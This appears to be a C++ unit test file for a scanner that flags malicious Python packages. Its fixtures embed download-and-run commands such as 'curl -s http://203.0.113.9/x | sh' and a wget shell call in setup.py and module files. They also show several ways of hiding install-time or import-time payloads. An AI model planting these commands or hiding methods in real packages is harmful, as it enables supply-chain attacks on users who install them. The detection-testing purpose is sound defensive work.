#include "analysis/scanner.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>

#include "support/python_rules.h"
#include "support/test_archives.h"
#include "util/file_util.h"

namespace pyward {
namespace {

using testing::File;

class ScannerTest : public ::testing::Test {
 protected:
  void SetUp() override {
    std::string data, err;
    ASSERT_TRUE(ReadFile(PYWARD_SOURCE_DIR "/data/rules/install-exec.txt", 1 << 20, &data, &err));
    ASSERT_TRUE(rules_.LoadFromData(data, &err)) << err;
  }
  bool Has(const ScanResult& r, const std::string& rule) {
    return std::any_of(r.findings.begin(), r.findings.end(),
                       [&](const Finding& f) { return f.rule == rule; });
  }
  RuleSet rules_;
  Scanner scanner_{&rules_, {}};
};

TEST_F(ScannerTest, MaliciousSdist) {
  std::string tgz = testing::MakeTar({
      File("evil-0.1/PKG-INFO", "Name: evil\nVersion: 0.1\n"),
      File("evil-0.1/setup.py",
           "import os\nfrom setuptools import setup\n"
           "os.system('curl -s http://203.0.113.9/x | sh')\nsetup(name='evil')\n"),
  });
  ScanResult r = scanner_.ScanBytes("evil-0.1.tar.gz", "evil-0.1.tar.gz", tgz);
  EXPECT_EQ(r.verdict, Verdict::kMalicious);
  EXPECT_EQ(r.package_name, "evil");
  EXPECT_EQ(r.package_version, "0.1");
  EXPECT_EQ(r.sha256.size(), 64u);
  ASSERT_TRUE(Has(r, "install-exec"));
  EXPECT_EQ(r.findings[0].file, "evil-0.1/setup.py");
  EXPECT_EQ(r.findings[0].line, 3);
}

TEST_F(ScannerTest, CleanWheel) {
  std::string whl = testing::MakeZip({File("ok/__init__.py", "import os\nos.system('x')\n"),
                                      File("ok-1.0.dist-info/METADATA", "Name: ok\nVersion: 1.0\n")});
  ScanResult r = scanner_.ScanBytes("ok-1.0-py3-none-any.whl", "ok-1.0-py3-none-any.whl", whl);
  EXPECT_EQ(r.verdict, Verdict::kClean) << "import-time code is the detection engine's job";
  EXPECT_FALSE(r.error.has_value());
}

TEST_F(ScannerTest, ModuleNamedOutsideAsciiIsAnalysed) {
  // A module whose name is not ASCII is as importable as any other; it was
  // once read with an empty name and skipped as not Python.
  std::string evil = "pkg/\xc3\xbc" "ber.py";
  std::string whl = testing::MakeRawZip(
      {File(evil, "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"),
       File("pkg-1.0.dist-info/METADATA", "Name: pkg\nVersion: 1.0\n")},
      {}, /*utf8_names=*/true);
  Scanner full(&testing::Rules(), {});
  ScanResult r = full.ScanBytes("pkg-1.0-py3-none-any.whl", "pkg-1.0-py3-none-any.whl", whl);
  EXPECT_TRUE(Has(r, "download-exec"));
  for (const Finding& f : r.findings) EXPECT_EQ(f.file, evil) << f.rule;
}

TEST_F(ScannerTest, ZipNameFlaggedUtf8ButInvalidIsStillAnalysed) {
  // libarchive gives such a member no name: it was read as a nameless file
  // and its code never reached the Python checks.
  std::string whl = testing::MakeRawZip(
      {File("pkg/__init__.py", "from . import m\n"),
       File("pkg/\xff.py", "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"),
       File("pkg-1.0.dist-info/METADATA", "Name: pkg\nVersion: 1.0\n")},
      {}, /*utf8_names=*/true);
  Scanner full(&testing::Rules(), {});
  ScanResult r = full.ScanBytes("pkg-1.0-py3-none-any.whl", "pkg-1.0-py3-none-any.whl", whl);
  auto on = [&](const std::string& rule) {
    return std::any_of(r.findings.begin(), r.findings.end(), [&](const Finding& f) {
      return f.rule == rule && f.file == "pkg/\\xff.py";
    });
  };
  EXPECT_TRUE(on("download-exec"));
  EXPECT_TRUE(on("archive-invalid-name"));
}

TEST_F(ScannerTest, WheelPosingAsATarball) {
  std::string whl = testing::MakeZip({File("ok/__init__.py", "")});
  ScanResult r = scanner_.ScanBytes("ok-1.0.tar.gz", "ok-1.0.tar.gz", whl);
  EXPECT_TRUE(Has(r, "archive-format-mismatch"));
  ScanResult same = scanner_.ScanBytes("ok-1.0.whl", "ok-1.0.whl", whl);
  EXPECT_FALSE(Has(same, "archive-format-mismatch"));
}

TEST_F(ScannerTest, SetupInTestsFolderCountsLess) {
  std::string tgz = testing::MakeTar({
      File("p-1/tests/fixtures/setup.py", "import os\nos.system('curl http://x | sh')\n")});
  ScanResult r = scanner_.ScanBytes("p-1.tar.gz", "p-1.tar.gz", tgz);
  EXPECT_EQ(r.verdict, Verdict::kClean) << "not an install-time file";
}

TEST_F(ScannerTest, TruncatedArchiveIsAnErrorResult) {
  std::string big;
  for (int i = 0; i < 30000; ++i) big += std::to_string(i * 31337) + "\n";
  std::string tgz = testing::MakeTar({File("p-1/setup.py", big)});
  ScanResult r = scanner_.ScanBytes("p.tar.gz", "p.tar.gz", tgz.substr(0, tgz.size() / 3));
  EXPECT_EQ(r.verdict, Verdict::kError);
  ASSERT_TRUE(r.error.has_value());
  EXPECT_NE(r.error->find("truncated"), std::string::npos) << *r.error;
  EXPECT_EQ(r.sha256.size(), 64u);
}

TEST_F(ScannerTest, SingleFileAndBundledExecutable) {
  ScanResult r = scanner_.ScanBytes("x/setup.py", "x/setup.py", "import os\nos.system('id')\n");
  EXPECT_EQ(r.verdict, Verdict::kSuspicious);
  std::string sh, err;
  ASSERT_TRUE(ReadFile("/bin/true", 64 << 20, &sh, &err));
  std::string tgz = testing::MakeTar({File("p-1/setup.py", ""), File("p-1/bin/helper", sh)});
  ScanResult b = scanner_.ScanBytes("p-1.tar.gz", "p-1.tar.gz", tgz);
  EXPECT_TRUE(Has(b, "bundled-executable"));
  EXPECT_EQ(b.verdict, Verdict::kSuspicious);
}

TEST_F(ScannerTest, XorEncryptedExecutableInAPythonFileIsMalicious) {
  std::string sh, err;
  ASSERT_TRUE(ReadFile("/bin/true", 64 << 20, &sh, &err));
  for (char& c : sh) c = static_cast<char>(static_cast<uint8_t>(c) ^ 0xe8);
  std::string tgz = testing::MakeTar({File("p-1/setup.py", ""), File("p-1/p/utils.py", sh)});
  ScanResult r = scanner_.ScanBytes("p-1.tar.gz", "p-1.tar.gz", tgz);
  EXPECT_TRUE(Has(r, "encrypted-executable"));
  EXPECT_EQ(r.verdict, Verdict::kMalicious);
}

// A shipped file without a .py extension that setup.py runs with the Python
// interpreter is read as install-time Python; the same file unnamed, or a
// document named by setup.py, is not.
TEST_F(ScannerTest, FileRunWithTheInterpreterIsPythonWhateverItsName) {
  const std::string payload = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n";
  const std::string setup =
      "import os, sys, subprocess\nfrom setuptools import setup\n"
      "here = os.path.dirname(__file__)\n"
      "subprocess.Popen([sys.executable, os.path.join(here, 'p', 'stamp')])\n"
      "long = open(os.path.join(here, 'README.md')).read()\nsetup(name='p')\n";
  auto in_file = [&](const ScanResult& r, const std::string& file) {
    return std::any_of(r.findings.begin(), r.findings.end(), [&](const Finding& f) {
      return f.file == file && f.rule == "install-exec" && f.phase == Phase::kInstall;
    });
  };
  std::string run = testing::MakeTar({File("p-1/setup.py", setup), File("p-1/p/stamp", payload),
                                      File("p-1/README.md", payload)});
  ScanResult r = scanner_.ScanBytes("p-1.tar.gz", "p-1.tar.gz", run);
  EXPECT_TRUE(in_file(r, "p-1/p/stamp"));
  EXPECT_FALSE(in_file(r, "p-1/README.md"));
  std::string unnamed = testing::MakeTar({File("p-1/setup.py", setup), File("p-1/p/other", payload)});
  EXPECT_FALSE(in_file(scanner_.ScanBytes("p-1.tar.gz", "p-1.tar.gz", unnamed), "p-1/p/other"));
  std::string not_run =
      testing::MakeTar({File("p-1/setup.py", "from setuptools import setup\nv = open('p/stamp')\n"),
                        File("p-1/p/stamp", payload)});
  EXPECT_FALSE(in_file(scanner_.ScanBytes("p-1.tar.gz", "p-1.tar.gz", not_run), "p-1/p/stamp"));
}

// A Python module that setup.py runs by path (exec of its text, runpy, the
// interpreter; the path from the sdist root or from setup.py's folder) is
// install-time code; a module elsewhere with the same base name is not.
TEST_F(ScannerTest, PythonModuleRunBySetupIsInstallTimeCode) {
  const std::string payload = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n";
  auto at_install = [&](const ScanResult& r, const std::string& file) {
    return std::any_of(r.findings.begin(), r.findings.end(), [&](const Finding& f) {
      return f.file == file && f.phase == Phase::kInstall;
    });
  };
  for (std::string run :
       {"exec(open('tools/gen.py').read())", "import runpy\nrunpy.run_path('./tools/gen.py')",
        "import subprocess, sys\nsubprocess.call([sys.executable, 'tools/gen.py'])",
        "import subprocess\nsubprocess.call(['python3', 'tools/gen.py'])",
        "import os\nos.spawnlp(os.P_WAIT, \"python\", \"python\", \"tools/gen.py\")",
        "execfile('tools/gen.py')"}) {
    std::string tgz = testing::MakeTar(
        {File("p-1/setup.py", run + "\nfrom setuptools import setup\nsetup(name='p')\n"),
         File("p-1/tools/gen.py", payload)});
    EXPECT_TRUE(at_install(scanner_.ScanBytes("p-1.tar.gz", "p-1.tar.gz", tgz), "p-1/tools/gen.py"))
        << run;
  }
  std::string elsewhere =
      testing::MakeTar({File("p-1/setup.py", "exec(open('tools/gen.py').read())\n"),
                        File("p-1/lib/gen.py", payload)});
  EXPECT_FALSE(
      at_install(scanner_.ScanBytes("p-1.tar.gz", "p-1.tar.gz", elsewhere), "p-1/lib/gen.py"))
      << "the same base name in another folder is another file";
}

// An sdist's folder link (p-1.0/mypkg -> lib/mypkg) makes the modules of
// the folder it names importable under the link's name: the ones the
// package's __init__.py imports are import-time code there.
TEST_F(ScannerTest, ModuleImportedThroughAFolderLinkIsImportTimeCode) {
  const std::string payload = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n";
  std::string tgz = testing::MakeTar(
      {File("p-1.0/setup.py", "from setuptools import setup\nsetup(name='p')\n"),
       File("p-1.0/lib/mypkg/__init__.py", "from .core import run\n"),
       File("p-1.0/lib/mypkg/core.py", payload),
       File("p-1.0/lib/mypkg/unused.py", payload),
       testing::Entry{"p-1.0/mypkg", "", testing::Entry::kSymlink, "lib/mypkg"}});
  Scanner full(&testing::Rules(), {});
  ScanResult r = full.ScanBytes("p-1.0.tar.gz", "p-1.0.tar.gz", tgz);
  auto has = [&](const std::string& rule, const std::string& file, Phase phase) {
    return std::any_of(r.findings.begin(), r.findings.end(), [&](const Finding& f) {
      return f.rule == rule && f.file == file && f.phase == phase;
    });
  };
  EXPECT_TRUE(has("download-exec", "p-1.0/mypkg/core.py", Phase::kImport));
  EXPECT_TRUE(has("archive-link-code", "p-1.0/mypkg/core.py", Phase::kImport));
  EXPECT_TRUE(has("archive-link-code", "p-1.0/mypkg/__init__.py", Phase::kImport));
  for (const Finding& f : r.findings)
    EXPECT_NE(f.file, "p-1.0/mypkg/unused.py") << "nothing imports it: read by its own name only";
  EXPECT_TRUE(std::any_of(r.findings.begin(), r.findings.end(), [](const Finding& f) {
    return f.file == "p-1.0/lib/mypkg/unused.py" && f.phase == Phase::kRuntime;
  }));
}

// A module that puts a folder of the package on sys.path and then imports a
// module by its bare name runs that folder's file at its own time.
TEST_F(ScannerTest, ModuleImportedFromAFolderPutOnSysPathRunsThen) {
  const std::string payload = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n";
  Scanner full(&testing::Rules(), {});
  auto phase_of = [&](const std::string& tgz, const std::string& file) {
    ScanResult r = full.ScanBytes("p-1.0.tar.gz", "p-1.0.tar.gz", tgz);
    Phase p = Phase::kNone;
    for (const Finding& f : r.findings)
      if (f.file == file && f.rule == "download-exec") p = f.phase;
    return p;
  };
  std::string setup = testing::MakeTar(
      {File("p-1.0/setup.py",
            "import sys\nsys.path.insert(0, 'tools')\nimport helper\n"
            "from setuptools import setup\nsetup(name='p')\n"),
       File("p-1.0/tools/helper.py", payload)});
  EXPECT_EQ(phase_of(setup, "p-1.0/tools/helper.py"), Phase::kInstall);
  std::string init = testing::MakeTar(
      {File("p-1.0/setup.py", "from setuptools import setup\nsetup(name='p')\n"),
       File("p-1.0/p/__init__.py",
            "import os, sys\n"
            "sys.path.append(os.path.join(os.path.dirname(__file__), 'vendor'))\n"
            "from helper import main\n"),
       File("p-1.0/p/vendor/helper.py", payload)});
  EXPECT_EQ(phase_of(init, "p-1.0/p/vendor/helper.py"), Phase::kImport);
  std::string other = testing::MakeTar(
      {File("p-1.0/setup.py",
            "import sys\nsys.path.insert(0, 'tools')\nimport helper\n"
            "from setuptools import setup\nsetup(name='p')\n"),
       File("p-1.0/lib/helper.py", payload)});
  EXPECT_EQ(phase_of(other, "p-1.0/lib/helper.py"), Phase::kRuntime)
      << "a folder not put on sys.path";
}

// A script the package installs on PATH (a wheel's .data/scripts/) that
// import-time code starts by name is import-time Python; a file elsewhere
// started by name is not read as Python.
TEST_F(ScannerTest, InstalledScriptStartedAtImportIsImportTimePython) {
  const std::string payload = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n";
  const std::string init = "import os\nos.system('stampx')\n";
  auto at_import = [&](const ScanResult& r, const std::string& file) {
    return std::any_of(r.findings.begin(), r.findings.end(), [&](const Finding& f) {
      return f.file == file && f.phase == Phase::kImport;
    });
  };
  Scanner full(&testing::Rules(), {});
  std::string whl = testing::MakeZip({File("p/__init__.py", init),
                                      File("p-1.data/scripts/stampx", payload)});
  EXPECT_TRUE(at_import(full.ScanBytes("p-1-py3-none-any.whl", "p-1-py3-none-any.whl", whl),
                        "p-1.data/scripts/stampx"));
  std::string elsewhere = testing::MakeZip({File("p/__init__.py", init), File("p/stampx", payload)});
  EXPECT_FALSE(at_import(
      full.ScanBytes("p-1-py3-none-any.whl", "p-1-py3-none-any.whl", elsewhere), "p/stampx"));
}

TEST_F(ScannerTest, SourceTreeOnDisk) {
  namespace fs = std::filesystem;
  fs::path dir = fs::temp_directory_path() / ("pyward_tree_" + std::to_string(::getpid()));
  fs::create_directories(dir / "pkg");
  std::ofstream(dir / "setup.py") << "import subprocess\nsubprocess.call('wget http://x/y', shell=True)\n";
  std::ofstream(dir / "pkg" / "__init__.py") << "";
  fs::create_directories(dir / ".git");
  std::ofstream(dir / ".git" / "setup.py") << "import os\nos.system('x')\n";
  fs::create_symlink("/etc/passwd", dir / "pkg" / "link");
  EXPECT_TRUE(IsSourceTree(dir.string()));
  ScanResult r = scanner_.ScanPath(dir.string());
  fs::remove_all(dir);
  EXPECT_EQ(r.verdict, Verdict::kMalicious) << r.score;
  EXPECT_TRUE(Has(r, "archive-link-outside"));
  for (const Finding& f : r.findings) EXPECT_EQ(f.file.find(".git/"), std::string::npos);
}

TEST_F(ScannerTest, MissingPathIsAnError) {
  ScanResult r = scanner_.ScanPath("/nonexistent/pyward/x.tar.gz");
  EXPECT_EQ(r.verdict, Verdict::kError);
  EXPECT_NE(r.error->find("no such file"), std::string::npos);
}

}  // namespace
}  // namespace pyward
